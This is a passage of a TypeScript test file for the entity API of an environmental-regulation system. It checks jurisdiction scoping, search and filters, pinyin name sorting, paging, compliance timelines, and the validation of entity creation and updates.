import {
  type EntityExchangeKey,
  entityExchangeColumns,
  entityInputSchema,
  generateCreditCode,
  readEntityExchangeRow,
} from '@qingshan/domain';
import { and, asc, eq, sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { queryRows } from '../../db/client';
import {
  creditCards,
  creditEvaluations,
  entityEvents,
  entityListMemberships,
  keyPolluterListings,
  regions,
  regulatedEntities,
} from '../../db/schema/index';
import { agencyId } from '../../demo/demo.agencies';
import { SeededRandom } from '../../demo/demo.random';
import {
  createAgency,
  createEntity,
  createUser,
  type TestAgency,
  type TestEntity,
  type TestUser,
} from '../../test/factories';
import { auditEntriesAfter, latestAuditId } from '../../test/test-fixtures';
import { createTestServer, type TestAgent, type TestResponse, type TestServer } from '../../test/test-server';

function expectError(response: TestResponse, status: number, code: string, field?: string) {
  expect(response.status, JSON.stringify(response.body)).toBe(status);
  expect(response.body.error.code).toBe(code);
  if (field !== undefined) expect(response.body.error.field).toBe(field);
}

interface Item {
  id: string;
  name: string;
  creditCode: string;
  regionCode: string;
  ownerAgencyId: string;
  industryCode: string;
  permitClass: string | null;
  operatingStatus: string;
  keyPolluterMedia: string[];
  isSpecialSupervision: boolean;
  hasAutomaticMonitoring: boolean;
  isMonitoringNetworked: boolean;
  isOnPositiveList: boolean;
  isBlacklisted: boolean;
  activeCard: string | null;
  creditLevel: string | null;
}

const random = new SeededRandom('entity-routes-test');
const newCreditCode = (region = '360121') => generateCreditCode(() => random.next(), { regionCode: region });

/** The agencies of the Jiangxi tree: what a provincial user sees (test agencies are roots of their own). */
const jiangxiTree = sql`(SELECT descendant_id FROM agency_closure WHERE ancestor_id = ${agencyId('360000-DEPT')})`;

describe('entity routes', () => {
  let server: TestServer;
  /** 南昌县大队 inspector: county scope 360121. */
  let county: TestAgent;
  /** 进贤县大队 inspector: the neighbouring county 360124. */
  let otherCounty: TestAgent;
  /** Provincial inspector: all of Jiangxi. */
  let province: TestAgent;
  let nanchangTown: string;
  let jinxianTown: string;
  let jinxianEntity: typeof regulatedEntities.$inferSelect;
  let nanchangEntity: typeof regulatedEntities.$inferSelect;

  async function entitiesOfCounty(code: string) {
    return server.db
      .select()
      .from(regulatedEntities)
      .where(eq(regulatedEntities.countyCode, code))
      .orderBy(asc(regulatedEntities.name));
  }

  async function firstTown(county: string) {
    const [row] = await server.db
      .select({ code: regions.code })
      .from(regions)
      .where(and(eq(regions.parentCode, county), eq(regions.level, 'town')))
      .orderBy(asc(regions.code))
      .limit(1);
    return row!.code;
  }

  function validInput(overrides: Record<string, unknown> = {}) {
    return {
      creditCode: newCreditCode(),
      name: '南昌县测试宏图化工有限公司',
      legalRepresentative: '张建华',
      address: '江西省南昌市南昌县莲塘镇工业大道 88 号',
      regionCode: nanchangTown,
      industryCode: '2614',
      permitNumber: null,
      permitClass: 'key',
      permitValidUntil: '2029-06-30',
      isSpecialSupervision: false,
      specialSupervisionReason: null,
      hasAutomaticMonitoring: true,
      isMonitoringNetworked: true,
      operatingStatus: 'operating',
      coordinates: { longitude: 115.94, latitude: 28.54 },
      contactPerson: '李四',
      contactPhone: '13907910001',
      keyPolluterMedia: ['water', 'environmental_risk'],
      ...overrides,
    };
  }

  beforeAll(async () => {
    server = await createTestServer();
    [county, otherCounty, province] = await Promise.all([
      server.as('ncx.inspector'),
      server.as('jxx.inspector'),
      server.as('jx.inspector'),
    ]);
    nanchangTown = await firstTown('360121');
    jinxianTown = await firstTown('360124');
    jinxianEntity = (await entitiesOfCounty('360124'))[0]!;
    nanchangEntity = (await entitiesOfCounty('360121'))[0]!;
  });
  afterAll(async () => {
    await server.close();
  });

  describe('jurisdiction', () => {
    // A city of the test's own over two counties, three entities each, and an outside agency.
    let own: { county: TestAgency; entities: TestEntity[]; inspector: TestUser };
    let other: { county: TestAgency; entities: TestEntity[]; inspector: TestUser };
    let cityInspector: TestUser;
    let outsider: TestUser;

    beforeAll(async () => {
      const city = await createAgency(server, { kind: 'county_bureau' });
      const countyOf = async () => {
        const agency = await createAgency(server, { parent: city, kind: 'county_bureau' });
        const entities = [];
        for (let index = 0; index < 3; index += 1) entities.push(await createEntity(server, agency));
        return { county: agency, entities, inspector: await createUser(server, agency, ['inspector']) };
      };
      own = await countyOf();
      other = await countyOf();
      cityInspector = await createUser(server, city, ['inspector']);
      outsider = await createUser(server, await createAgency(server), ['inspector']);
    });

    it('lists exactly the entities owned in the own subtree', async () => {
      const listed = await own.inspector.agent.get('/api/entities?pageSize=200');
      expect(listed.status).toBe(200);
      expect(listed.body.total).toBe(3);
      expect(listed.body.items.map((item: Item) => item.id).sort()).toEqual(
        own.entities.map((entity) => entity.id).sort(),
      );
      const both = await cityInspector.agent.get('/api/entities?pageSize=200');
      expect(both.body.items.map((item: Item) => item.id).sort()).toEqual(
        [...own.entities, ...other.entities].map((entity) => entity.id).sort(),
      );

      const [inJiangxi] = await queryRows<{ total: string | number }>(
        server.db,
        sql`SELECT count(*) AS total FROM regulated_entities WHERE owner_agency_id IN ${jiangxiTree}`,
      );
      const all = await province.get('/api/entities?pageSize=1');
      expect(all.body.total).toBe(Number(inJiangxi!.total));
      const [everything] = await queryRows<{ total: string | number }>(
        server.db,
        sql`SELECT count(*) AS total FROM regulated_entities`,
      );
      // Jilin and Nantong have entities too; a Jiangxi user sees none of them.
      expect(Number(everything!.total)).toBeGreaterThan(all.body.total);
    });

    it('another county gets 404 on read, timeline and patch, and nothing changes', async () => {
      const target = other.entities[0]!;
      const [before] = await server.db
        .select()
        .from(regulatedEntities)
        .where(eq(regulatedEntities.id, target.id));
      const auditBefore = await latestAuditId(server);
      const county = own.inspector.agent;
      for (const url of [`/api/entities/${target.id}`, `/api/entities/${target.id}/events`]) {
        expectError(await county.get(url), 404, 'NOT_FOUND');
      }
      const patched = await county.patch(`/api/entities/${target.id}`, { name: '被越权修改的名称' });
      expectError(patched, 404, 'NOT_FOUND');
      expect(patched.body.error.message).toContain('不在您的管辖范围内');
      const [row] = await server.db
        .select()
        .from(regulatedEntities)
        .where(eq(regulatedEntities.id, target.id));
      expect(row!.name).toBe(target.name);
      expect(row!.updatedAt).toEqual(before!.updatedAt);
      expect(await auditEntriesAfter(server, auditBefore)).toHaveLength(0);

      // A filter naming the other county's region or agency finds nothing either.
      const byRegion = await county.get(`/api/entities?regionCode=${other.county.townCodes[0]}`);
      expect(byRegion.body).toMatchObject({ total: 0, items: [] });
      const byAgency = await county.get(`/api/entities?ownerAgencyId=${other.county.id}`);
      expect(byAgency.body.total).toBe(0);
      // The own county's entity is readable.
      expect((await county.get(`/api/entities/${own.entities[0]!.id}`)).status).toBe(200);
      // The city's inspector sees both counties; an inspector of an agency outside neither.
      expect((await cityInspector.agent.get(`/api/entities/${target.id}`)).status).toBe(200);
      expectError(await outsider.agent.get(`/api/entities/${own.entities[0]!.id}`), 404, 'NOT_FOUND');
    });
  });

  describe('GET /api/entities', () => {
    it('says the total is exact when it is within the exact-count limit, with or without a search', async () => {
      const [counted] = await queryRows<{ total: number }>(
        server.db,
        sql`SELECT count(*)::int AS total FROM regulated_entities WHERE owner_agency_id IN ${jiangxiTree}`,
      );
      const all = await province.get('/api/entities?pageSize=20');
      expect(all.status).toBe(200);
      expect(all.body).toMatchObject({ total: counted!.total, totalIsEstimate: false });
      const searched = await province.get(`/api/entities?q=${encodeURIComponent('有限公司')}&pageSize=20`);
      expect(searched.body.totalIsEstimate).toBe(false);
      expect(searched.body.total).toBeGreaterThan(0);
    });

    it('finds an entity by part of its name, its credit code or its legal representative', async () => {
      const target = nanchangEntity;
      // A middle part of the name (the trade name and what follows), as an inspector remembers it.
      const part = target.name.slice(3, 7);
      const byName = await county.get(`/api/entities?q=${encodeURIComponent(part)}&pageSize=200`);
      expect(byName.status).toBe(200);
      expect(byName.body.items.map((item: Item) => item.id)).toContain(target.id);
      for (const item of byName.body.items as Item[]) {
        const [row] = await server.db
          .select()
          .from(regulatedEntities)
          .where(eq(regulatedEntities.id, item.id));
        const haystack = [row!.name, row!.creditCode, row!.legalRepresentative, row!.address]
          .join(' ')
          .toLowerCase();
        expect(haystack).toContain(part.toLowerCase());
      }
      const byCode = await county.get(`/api/entities?q=${target.creditCode.slice(6, 14).toLowerCase()}`);
      expect(byCode.body.items.map((item: Item) => item.id)).toContain(target.id);
      const byPerson = await county.get(
        `/api/entities?q=${encodeURIComponent(target.legalRepresentative!)}&pageSize=200`,
      );
      expect(byPerson.body.items.map((item: Item) => item.id)).toContain(target.id);
      // Wildcards are literal.
      expect((await county.get('/api/entities?q=%25')).body.total).toBe(0);
    });

    it('filters by region subtree, owner agency, industry, permit class and operating status', async () => {
      const city = await province.get('/api/entities?regionCode=360100&pageSize=200');
      expect(city.body.total).toBeGreaterThan(0);
      expect(city.body.items.every((item: Item) => item.regionCode.startsWith('3601'))).toBe(true);
      const byCounty = await province.get('/api/entities?regionCode=360121&pageSize=1');
      expect(byCounty.body.total).toBe((await entitiesOfCounty('360121')).length);
      const townEntity = (await entitiesOfCounty('360121')).find((row) => row.regionCode.length === 9)!;
      const byTown = await province.get(`/api/entities?regionCode=${townEntity.regionCode}&pageSize=200`);
      expect(byTown.body.items.map((item: Item) => item.id)).toContain(townEntity.id);
      expect(byTown.body.items.every((item: Item) => item.regionCode === townEntity.regionCode)).toBe(true);
      const byAgency = await province.get(`/api/entities?ownerAgencyId=${agencyId('360121-BUR')}&pageSize=1`);
      expect(byAgency.body.total).toBe(byCounty.body.total);

      const manufacturing = await county.get('/api/entities?industryCode=C&pageSize=200');
      expect(manufacturing.body.total).toBeGreaterThan(0);
      expect(
        manufacturing.body.items.every(
          (item: Item) =>
            Number(item.industryCode.slice(0, 2)) >= 13 && Number(item.industryCode.slice(0, 2)) <= 43,
        ),
      ).toBe(true);
      const chemicals = await province.get('/api/entities?industryCode=26&pageSize=200');
      expect(chemicals.body.total).toBeGreaterThan(0);
      expect(chemicals.body.items.every((item: Item) => item.industryCode.startsWith('26'))).toBe(true);
      const oneClass = chemicals.body.items[0].industryCode as string;
      const byClass = await province.get(`/api/entities?industryCode=${oneClass}&pageSize=200`);
      expect(byClass.body.items.every((item: Item) => item.industryCode === oneClass)).toBe(true);

      for (const permitClass of ['key', 'simplified', 'registration']) {
        const response = await county.get(`/api/entities?permitClass=${permitClass}&pageSize=200`);
        expect(response.body.total, permitClass).toBeGreaterThan(0);
        expect(response.body.items.every((item: Item) => item.permitClass === permitClass)).toBe(true);
      }
      const closed = await province.get('/api/entities?operatingStatus=closed&pageSize=200');
      expect(closed.body.total).toBeGreaterThan(0);
      expect(closed.body.items.every((item: Item) => item.operatingStatus === 'closed')).toBe(true);
      expectError(
        await county.get('/api/entities?industryCode=ab'),
        400,
        'VALIDATION_FAILED',
        'industryCode',
      );
      expectError(await county.get('/api/entities?regionCode=36'), 400, 'VALIDATION_FAILED', 'regionCode');
    });

    it('filters key polluters by year and medium, and the flags', async () => {
      const [listed] = await queryRows<{ total: string | number }>(
        server.db,
        sql`SELECT count(DISTINCT k.entity_id) AS total FROM key_polluter_listings k
          JOIN regulated_entities e ON e.id = k.entity_id WHERE k.year = 2026 AND e.county_code LIKE '36%'`,
      );
      const keys = await province.get('/api/entities?isKeyPolluter=true&pageSize=200');
      expect(keys.body.total).toBe(Number(listed!.total));
      expect(keys.body.items.every((item: Item) => item.keyPolluterMedia.length > 0)).toBe(true);
      const notKeys = await province.get('/api/entities?isKeyPolluter=false&pageSize=200');
      expect(notKeys.body.items.every((item: Item) => item.keyPolluterMedia.length === 0)).toBe(true);
      const all = await province.get('/api/entities?pageSize=1');
      expect(keys.body.total + notKeys.body.total).toBe(all.body.total);
      // About a tenth of the demo entities are key polluters.
      expect(keys.body.total / all.body.total).toBeGreaterThan(0.06);
      expect(keys.body.total / all.body.total).toBeLessThan(0.14);

      const water = await province.get('/api/entities?keyPolluterMedium=water&pageSize=200');
      expect(water.body.total).toBeGreaterThan(0);
      expect(water.body.items.every((item: Item) => item.keyPolluterMedia.includes('water'))).toBe(true);
      const [listed2024] = await queryRows<{ total: string | number }>(
        server.db,
        sql`SELECT count(DISTINCT k.entity_id) AS total FROM key_polluter_listings k
          JOIN regulated_entities e ON e.id = k.entity_id WHERE k.year = 2024 AND k.medium = 'air' AND e.county_code LIKE '36%'`,
      );
      const air2024 = await province.get(
        '/api/entities?keyPolluterMedium=air&keyPolluterYear=2024&pageSize=1',
      );
      expect(air2024.body.total).toBe(Number(listed2024!.total));

      for (const flag of [
        'isSpecialSupervision',
        'hasAutomaticMonitoring',
        'isMonitoringNetworked',
      ] as const) {
        const yes = await province.get(`/api/entities?${flag}=true&pageSize=200`);
        expect(yes.body.total, flag).toBeGreaterThan(0);
        expect(yes.body.items.every((item: Item) => item[flag])).toBe(true);
        const no = await province.get(`/api/entities?${flag}=false&pageSize=200`);
        expect(no.body.items.every((item: Item) => !item[flag])).toBe(true);
        expect(yes.body.total + no.body.total).toBe(all.body.total);
      }
      // Key polluters with monitoring installed but not networked: the ones to chase.
      const notNetworked = await province.get(
        '/api/entities?isKeyPolluter=true&hasAutomaticMonitoring=true&isMonitoringNetworked=false&pageSize=200',
      );
      expect(notNetworked.body.total).toBeGreaterThan(0);
    });

    it('filters by the credit tables: positive list, blacklist, active cards and credit level', async () => {
      // Entities the demo's credit data leaves alone, so this test decides their credit facts.
      const untouched = await queryRows<{ id: string }>(
        server.db,
        sql`SELECT e.id FROM regulated_entities e WHERE e.county_code = '360121'
          AND NOT EXISTS (SELECT 1 FROM entity_list_memberships m WHERE m.entity_id = e.id)
          AND NOT EXISTS (SELECT 1 FROM credit_cards c WHERE c.entity_id = e.id)
          AND NOT EXISTS (SELECT 1 FROM credit_evaluations v WHERE v.entity_id = e.id)
          ORDER BY e.id LIMIT 3`,
      );
      const [first, second, third] = await Promise.all(
        untouched.map(
          async ({ id }) =>
            (await server.db.select().from(regulatedEntities).where(eq(regulatedEntities.id, id)))[0],
        ),
      );
      const now = server.clock.now();
      const agency = agencyId('360121-BUR');
      await server.db.insert(entityListMemberships).values([
        {
          entityId: first!.id,
          list: 'positive',
          listedOn: '2026-03-01',
          reason: '测试',
          agencyId: agency,
          createdAt: now,
          updatedAt: now,
        },
        {
          entityId: second!.id,
          list: 'blacklist',
          listedOn: '2026-04-01',
          reason: '测试',
          agencyId: agency,
          createdAt: now,
          updatedAt: now,
        },
        // Removed from the list: no longer a member.
        {
          entityId: third!.id,
          list: 'blacklist',
          listedOn: '2025-01-01',
          removedOn: '2025-12-01',
          reason: '测试',
          agencyId: agency,
          createdAt: now,
          updatedAt: now,
        },
      ]);
      await server.db.insert(creditCards).values([
        {
          entityId: second!.id,
          color: 'red',
          reason: '测试红牌',
          issuedOn: '2026-05-01',
          agencyId: agency,
          createdAt: now,
          updatedAt: now,
        },
        {
          entityId: third!.id,
          color: 'yellow',
          reason: '已摘牌',
          issuedOn: '2025-05-01',
          liftedOn: '2025-09-01',
          agencyId: agency,
          createdAt: now,
          updatedAt: now,
        },
      ]);
      await server.db.insert(creditEvaluations).values([
        {
          entityId: first!.id,
          year: 2025,
          level: 'trustworthy',
          evaluatedOn: '2026-03-01',
          agencyId: agency,
          createdAt: now,
        },
        {
          entityId: third!.id,
          year: 2024,
          level: 'untrustworthy',
          evaluatedOn: '2025-03-01',
          agencyId: agency,
          createdAt: now,
        },
        {
          entityId: third!.id,
          year: 2025,
          level: 'good',
          evaluatedOn: '2026-03-01',
          agencyId: agency,
          createdAt: now,
        },
      ]);
      const ids = async (query: string) =>
        ((await county.get(`/api/entities?${query}&pageSize=200`)).body.items as Item[]).map(
          (item) => item.id,
        );
      const positive = await county.get('/api/entities?isOnPositiveList=true&pageSize=200');
      expect(positive.body.items.map((item: Item) => item.id)).toContain(first!.id);
      expect(positive.body.items.every((item: Item) => item.isOnPositiveList)).toBe(true);
      const blacklisted = await ids('isBlacklisted=true');
      expect(blacklisted).toContain(second!.id);
      expect(blacklisted).not.toContain(third!.id);
      expect(await ids('isBlacklisted=false')).toContain(third!.id);
      expect(await ids('card=red')).toContain(second!.id);
      expect(await ids('card=any')).toContain(second!.id);
      expect(await ids('card=any')).not.toContain(third!.id);
      expect(await ids('card=yellow')).not.toContain(second!.id);
      expect(await ids('creditLevel=trustworthy')).toContain(first!.id);
      // The latest evaluation counts, not an older one.
      expect(await ids('creditLevel=good')).toContain(third!.id);
      expect(await ids('creditLevel=untrustworthy')).not.toContain(third!.id);
      const row = ((await county.get(`/api/entities?q=${second!.creditCode}`)).body.items as Item[])[0]!;
      expect(row).toMatchObject({ isBlacklisted: true, activeCard: 'red' });
    });

    it('sorts Chinese names by pinyin, not by code point (丰岭 before 中合), in the list and the export', async () => {
      // By code point 中 (U+4E2D) comes before 丰 (U+4E30); by pinyin feng comes before zhong.
      const names = ['万安县中合化工有限公司', '万安县丰岭农业开发有限公司', '万安县中合化工二厂'];
      const codes: string[] = [];
      for (const name of names) {
        const input = validInput({ name });
        codes.push(input.creditCode);
        expect((await county.post('/api/entities', input)).status).toBe(201);
      }
      const listed = await county.get(`/api/entities?q=${encodeURIComponent('万安县')}&sort=name`);
      expect(listed.body.items.map((item: Item) => item.name)).toEqual([
        '万安县丰岭农业开发有限公司',
        '万安县中合化工二厂',
        '万安县中合化工有限公司',
      ]);
      const descending = await county.get(`/api/entities?q=${encodeURIComponent('万安县')}&sort=-name`);
      expect(descending.body.items[0].name).toBe('万安县中合化工有限公司');
      const csv = await county.get(`/api/entities/export.csv?q=${encodeURIComponent('万安县')}`);
      const exported = csv.raw.body.split('\r\n').filter((line: string) => line.includes('万安县'));
      expect(exported.map((line: string) => names.find((name) => line.includes(name)))).toEqual([
        '万安县丰岭农业开发有限公司',
        '万安县中合化工二厂',
        '万安县中合化工有限公司',
      ]);
      // A renamed entity moves with its new name.
      const renamed = listed.body.items[0] as Item;
      const patched = await county.patch(`/api/entities/${renamed.id}`, { name: '万安县中合化工三厂' });
      expect(patched.status, JSON.stringify(patched.body)).toBe(200);
      const after = await county.get(`/api/entities?q=${encodeURIComponent('万安县')}&sort=name`);
      expect(after.body.items.map((item: Item) => item.name)).toEqual([
        '万安县中合化工二厂',
        '万安县中合化工三厂',
        '万安县中合化工有限公司',
      ]);
    });

    it('pages and sorts on the server with stable pages', async () => {
      const first = await county.get('/api/entities?pageSize=7&sort=name');
      const second = await county.get('/api/entities?pageSize=7&page=2&sort=name');
      const both = await county.get('/api/entities?pageSize=14&sort=name');
      expect([...first.body.items, ...second.body.items].map((item: Item) => item.id)).toEqual(
        both.body.items.map((item: Item) => item.id),
      );
      const expected = await queryRows<{ id: string }>(
        server.db,
        sql`SELECT id FROM regulated_entities WHERE county_code = '360121'
            ORDER BY name_sort_key, name COLLATE "C", id LIMIT 14`,
      );
      expect(both.body.items.map((item: Item) => item.id)).toEqual(expected.map((row) => row.id));
      const descending = await county.get('/api/entities?pageSize=200&sort=-creditCode');
      const codes = descending.body.items.map((item: Item) => item.creditCode);
      expect(codes).toEqual([...codes].sort().reverse());
      const byRegion = await province.get('/api/entities?pageSize=200&sort=region');
      const counties = byRegion.body.items.map((item: Item) => item.regionCode.slice(0, 6));
      expect(counties).toEqual([...counties].sort());
      expectError(
        await county.get('/api/entities?sort=legalRepresentative'),
        400,
        'VALIDATION_FAILED',
        'sort',
      );
      expectError(await county.get('/api/entities?pageSize=500'), 400, 'VALIDATION_FAILED', 'pageSize');
    });
  });

  describe('GET /api/entities/:id', () => {
    it('shows every field, the region and industry paths, listings, the strip and the newest events', async () => {
      const response = await county.get(`/api/entities/${nanchangEntity.id}`);
      expect(response.status).toBe(200);
      const detail = response.body;
      expect(detail).toMatchObject({
        id: nanchangEntity.id,
        creditCode: nanchangEntity.creditCode,
        name: nanchangEntity.name,
        legalRepresentative: nanchangEntity.legalRepresentative,
        address: nanchangEntity.address,
        countyCode: '360121',
        ownerAgency: { id: agencyId('360121-BUR') },
      });
      expect(detail.regionPath.map((region: { name: string }) => region.name).slice(0, 3)).toEqual([
        '江西省',
        '南昌市',
        '南昌县',
      ]);
      expect(detail.industryPath.at(-1).code).toBe(nanchangEntity.industryCode);
      expect(detail.industryPath[0].code).toMatch(/^[A-T]$/);
      if (nanchangEntity.longitude !== null) {
        expect(detail.coordinates).toEqual({
          longitude: nanchangEntity.longitude,
          latitude: nanchangEntity.latitude,
        });
      }
      expect(detail.complianceStrip).toHaveLength(12);
      expect(detail.complianceStrip[0].key).toBe('2024Q1');
      expect(detail.complianceStrip[11].key).toBe('2026Q4');
      const dates = detail.timeline.items.map((event: { occurredOn: string }) => event.occurredOn);
      expect(dates).toEqual([...dates].sort().reverse());
      expect(detail.timeline.total).toBeGreaterThanOrEqual(1);
      expect(Array.isArray(detail.supervisors)).toBe(true);
      expect(detail.credit).toHaveProperty('compliancePoints');
    });

    it('builds the compliance strip from the worst event of each quarter', async () => {
      const target = (await entitiesOfCounty('360121'))[10]!;
      await server.db.delete(entityEvents).where(eq(entityEvents.entityId, target.id));
      const event = (occurredOn: string, compliance: string | null, kind = 'inspection') => ({
        entityId: target.id,
        occurredOn,
        kind,
        title: '测试检查',
        compliance,
        createdAt: server.clock.now(),
      });
      await server.db
        .insert(entityEvents)
        .values([
          event('2026-05-10', 'serious_violation'),
          event('2026-06-20', 'compliant'),
          event('2025-02-01', 'minor_issue'),
          event('2026-10-08', 'compliant'),
          event('2025-08-08', null, 'penalty'),
          event('2023-12-31', 'violation'),
        ]);
      const detail = (await county.get(`/api/entities/${target.id}`)).body;
      const byKey = Object.fromEntries(
        detail.complianceStrip.map((quarter: { key: string; level: string }) => [quarter.key, quarter.level]),
      );
      expect(byKey).toMatchObject({
        '2026Q4': 'compliant',
        '2026Q2': 'serious_violation',
        '2025Q1': 'minor_issue',
        '2025Q3': 'no_record',
        '2024Q1': 'no_record',
      });
      expect(detail.timeline.items.map((item: { occurredOn: string }) => item.occurredOn)).toEqual([
        '2026-10-08',
        '2026-06-20',
        '2026-05-10',
        '2025-08-08',
        '2025-02-01',
        '2023-12-31',
      ]);
    });

    it('pages the timeline with /events', async () => {
      const [busy] = await queryRows<{ entity_id: string }>(
        server.db,
        sql`SELECT ev.entity_id FROM entity_events ev JOIN regulated_entities e ON e.id = ev.entity_id
          WHERE e.county_code = '360121' GROUP BY ev.entity_id HAVING count(*) >= 4 LIMIT 1`,
      );
      const id = busy!.entity_id;
      const all = await county.get(`/api/entities/${id}/events?pageSize=100`);
      const page1 = await county.get(`/api/entities/${id}/events?pageSize=2`);
      const page2 = await county.get(`/api/entities/${id}/events?pageSize=2&page=2`);
      expect(page1.body.total).toBe(all.body.total);
      expect([...page1.body.items, ...page2.body.items].map((event: { id: string }) => event.id)).toEqual(
        all.body.items.slice(0, 4).map((event: { id: string }) => event.id),
      );
      const inspections = await county.get(`/api/entities/${id}/events?kind=inspection&pageSize=100`);
      expect(inspections.body.items.every((event: { kind: string }) => event.kind === 'inspection')).toBe(
        true,
      );
    });
  });

  describe('POST /api/entities', () => {
    it('creates an entity owned by the county of its town, with listings, one timeline row and one audit entry', async () => {
      const auditBefore = await latestAuditId(server);
      const input = validInput();
      const response = await county.post('/api/entities', input);
      expect(response.status, JSON.stringify(response.body)).toBe(201);
      expect(response.body).toMatchObject({
        creditCode: input.creditCode,
        regionCode: nanchangTown,
        countyCode: '360121',
        ownerAgencyId: agencyId('360121-BUR'),
        keyPolluterMedia: ['water', 'environmental_risk'],
        coordinates: { longitude: 115.94, latitude: 28.54 },
      });
      const id = response.body.id as string;
      const listings = await server.db
        .select()
        .from(keyPolluterListings)
        .where(eq(keyPolluterListings.entityId, id));
      expect(listings.map((row) => `${row.year}:${row.medium}`).sort()).toEqual([
        '2026:environmental_risk',
        '2026:water',
      ]);
      const events = await server.db.select().from(entityEvents).where(eq(entityEvents.entityId, id));
      expect(events).toHaveLength(1);
      expect(events[0]).toMatchObject({
        kind: 'registry_created',
        compliance: null,
        occurredOn: '2026-11-20',
      });
      const audits = await auditEntriesAfter(server, auditBefore);
      expect(audits).toHaveLength(1);
      expect(audits[0]).toMatchObject({ action: 'entities.create', targetId: id });
      expect(response.body.timeline.items[0].kind).toBe('registry_created');
    });

    it('refuses a region of another county, a city-level region and an unknown code, naming regionCode', async () => {
      const auditBefore = await latestAuditId(server);
      const [countBefore] = await queryRows<{ total: string | number }>(
        server.db,
        sql`SELECT count(*) AS total FROM regulated_entities`,
      );
      for (const regionCode of [jinxianTown, '360124', '360100', '360199']) {
        const response = await county.post('/api/entities', validInput({ regionCode }));
        expectError(response, 400, 'VALIDATION_FAILED', 'regionCode');
      }
      const outside = await county.post('/api/entities', validInput({ regionCode: jinxianTown }));
      expect(outside.body.error.message).toContain('不在您的管辖范围内');
      const [countAfter] = await queryRows<{ total: string | number }>(
        server.db,
        sql`SELECT count(*) AS total FROM regulated_entities`,
      );
      expect(countAfter!.total).toEqual(countBefore!.total);
      expect(await auditEntriesAfter(server, auditBefore)).toHaveLength(0);
    });

    it('validates the fields and names them; a wrong check digit names its position', async () => {
      const code = newCreditCode();
      const wrong = `${code.slice(0, 17)}${code[17] === '0' ? '1' : '0'}`;
      const badCode = await county.post('/api/entities', validInput({ creditCode: wrong }));
      expectError(badCode, 400, 'VALIDATION_FAILED', 'creditCode');
      expect(badCode.body.error.message).toContain('第 18 位');
      const badCharacter = await county.post(
        '/api/entities',
        validInput({ creditCode: `91360121MA35${'O'}${code.slice(13)}` }),
      );
      expectError(badCharacter, 400, 'VALIDATION_FAILED', 'creditCode');
      expect(badCharacter.body.error.message).toContain('第 13 位');
      expectError(
        await county.post('/api/entities', validInput({ name: '' })),
        400,
        'VALIDATION_FAILED',
        'name',
      );
      expectError(
        await county.post('/api/entities', validInput({ industryCode: '9999' })),
        400,
        'VALIDATION_FAILED',
        'industryCode',
      );
      expectError(
        await county.post(
          '/api/entities',
          validInput({ hasAutomaticMonitoring: false, isMonitoringNetworked: true }),
        ),
        400,
        'VALIDATION_FAILED',
        'isMonitoringNetworked',
      );
      expectError(
        await county.post(
          '/api/entities',
          validInput({ isSpecialSupervision: true, specialSupervisionReason: null }),
        ),
        400,
        'VALIDATION_FAILED',
        'specialSupervisionReason',
      );
      expectError(
        await county.post('/api/entities', validInput({ coordinates: { longitude: 12, latitude: 28 } })),
        400,
        'VALIDATION_FAILED',
        'coordinates.longitude',
      );
      expectError(
        await county.post('/api/entities', validInput({ keyPolluterMedia: ['fire'] })),
        400,
        'VALIDATION_FAILED',
        'keyPolluterMedia.0',
      );
      expectError(
        await county.post('/api/entities', validInput({ extra: 1 })),
        400,
        'VALIDATION_FAILED',
        'extra',
      );
    });

    it('refuses a duplicate credit code with 409, naming the entity only inside the own jurisdiction', async () => {
      const auditBefore = await latestAuditId(server);
      const inside = await county.post(
        '/api/entities',
        validInput({ creditCode: nanchangEntity.creditCode }),
      );
      expectError(inside, 409, 'CONFLICT', 'creditCode');
      expect(inside.body.error.message).toContain(nanchangEntity.name);
      const outside = await county.post(
        '/api/entities',
        validInput({ creditCode: jinxianEntity.creditCode }),
      );
      expectError(outside, 409, 'CONFLICT', 'creditCode');
      expect(outside.body.error.message).toContain('其他辖区');
      expect(outside.body.error.message).not.toContain(jinxianEntity.name);
      // Lower case and spaces are normalised before the check.
      const spaced = `${jinxianEntity.creditCode.slice(0, 9).toLowerCase()} ${jinxianEntity.creditCode.slice(9)}`;
      expectError(
        await county.post('/api/entities', validInput({ creditCode: spaced })),
        409,
        'CONFLICT',
        'creditCode',
      );
      expect(await auditEntriesAfter(server, auditBefore)).toHaveLength(0);
    });
  });

  describe('PATCH /api/entities/:id', () => {
    it('changes the given fields, replaces this year’s listings, appends one timeline row and one audit entry', async () => {
      const created = (await county.post('/api/entities', validInput({ name: '南昌县测试待改化工有限公司' })))
        .body;
      const auditBefore = await latestAuditId(server);
      const response = await county.patch(`/api/entities/${created.id}`, {
        name: '南昌县测试已改化工有限公司',
        keyPolluterMedia: ['air'],
        operatingStatus: 'suspended',
      });
      expect(response.status, JSON.stringify(response.body)).toBe(200);
      expect(response.body).toMatchObject({
        name: '南昌县测试已改化工有限公司',
        keyPolluterMedia: ['air'],
        operatingStatus: 'suspended',
        legalRepresentative: '张建华',
      });
      const listings = await server.db
        .select()
        .from(keyPolluterListings)
        .where(eq(keyPolluterListings.entityId, created.id));
      expect(listings.map((row) => row.medium)).toEqual(['air']);
      const events = await server.db
        .select()
        .from(entityEvents)
        .where(and(eq(entityEvents.entityId, created.id), eq(entityEvents.kind, 'registry_updated')));
      expect(events).toHaveLength(1);
      expect(events[0]!.compliance).toBeNull();
      expect(events[0]!.title).toContain('单位名称');
      expect(events[0]!.detail).toContain('南昌县测试待改化工有限公司 → 南昌县测试已改化工有限公司');
      expect(events[0]!.detail).toContain('生产状态：在产 → 停产');
      const audits = await auditEntriesAfter(server, auditBefore);
      expect(audits).toHaveLength(1);
      expect(audits[0]).toMatchObject({ action: 'entities.update', targetId: created.id });

      // The same values again: nothing to record.
      const again = await county.patch(`/api/entities/${created.id}`, { name: '南昌县测试已改化工有限公司' });
      expect(again.status).toBe(200);
      expect(await auditEntriesAfter(server, auditBefore)).toHaveLength(1);
    });

    it('checks the merged entity and the new region, and changes nothing when refused', async () => {
      const created = (await county.post('/api/entities', validInput({ name: '南昌县测试拒改化工有限公司' })))
        .body;
      const auditBefore = await latestAuditId(server);
      expectError(
        await county.patch(`/api/entities/${created.id}`, { isSpecialSupervision: true }),
        400,
        'VALIDATION_FAILED',
        'specialSupervisionReason',
      );
      expectError(
        await county.patch(`/api/entities/${created.id}`, { regionCode: jinxianTown }),
        400,
        'VALIDATION_FAILED',
        'regionCode',
      );
      expectError(
        await county.patch(`/api/entities/${created.id}`, { creditCode: jinxianEntity.creditCode }),
        409,
        'CONFLICT',
        'creditCode',
